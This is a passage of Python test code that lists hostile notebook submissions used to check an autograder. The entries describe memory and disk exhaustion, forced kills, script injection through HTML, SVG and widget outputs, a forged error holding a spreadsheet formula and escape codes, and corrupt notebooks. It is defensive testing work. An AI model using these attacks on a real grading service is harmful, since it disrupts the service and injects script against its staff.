            what="the grading worker is SIGKILLed whenever it grades this submission (as the OOM killer would)"),
    Hostile("memory-forks", memory_forks, zero(), "of memory", "children held",
            what="three forked children hold 1.5 GB each, and /tmp (RAM) is filled"),
    Hostile("fill-disk", fill_disk, zero(), "it filled its private folder", "No space left on device",
            what="writes 64 MB files until /tmp and its home are full (4 GB each at most)"),
    Hostile("html-js", html_js, zero(), "no answer was recorded", HONEST_TEXT,
            what="<script>, <img onerror>, Javascript, SVG, markdown, iframe and widget outputs; script in a markdown "
                 "cell, a raw HTML cell, a cell tag and the notebook's widget state"),
    Hostile("forged-error", forged_error, zero(), "repeated_tokens: ", "no answer was recorded",
            what="a recorded error of 50 MB: a spreadsheet formula, NUL, line breaks, quotes, escape codes"),
    Hostile("many-outputs", many_outputs, zero(), "not done yet", "not done yet",
            what="600,000 outputs saved in the submitted notebook (40 MB)"),
    Hostile("huge-file", huge_file, zero(), status="not graded: the notebook is 63 MB",
            reason="over the 50 MB limit", what="a 63 MB notebook"),
    Hostile("corrupt-json", corrupt_json, zero(), status="not graded: not a readable notebook",
            reason="not a readable notebook", what="not JSON"),
    Hostile("invalid-notebook", invalid_notebook, zero(), status="not graded: not a readable notebook",
            reason="not a readable notebook", what="JSON, but not a notebook"),
]
CORPUS = [dataclasses.replace(h, student=f"{i:02d}-{h.student}") for i, h in enumerate(CORPUS, start=1)]


def named(name: str) -> Hostile:
    """The corpus entry for an attack, by its name without the number."""
    return next(h for h in CORPUS if h.student.split("-", 1)[1] == name)
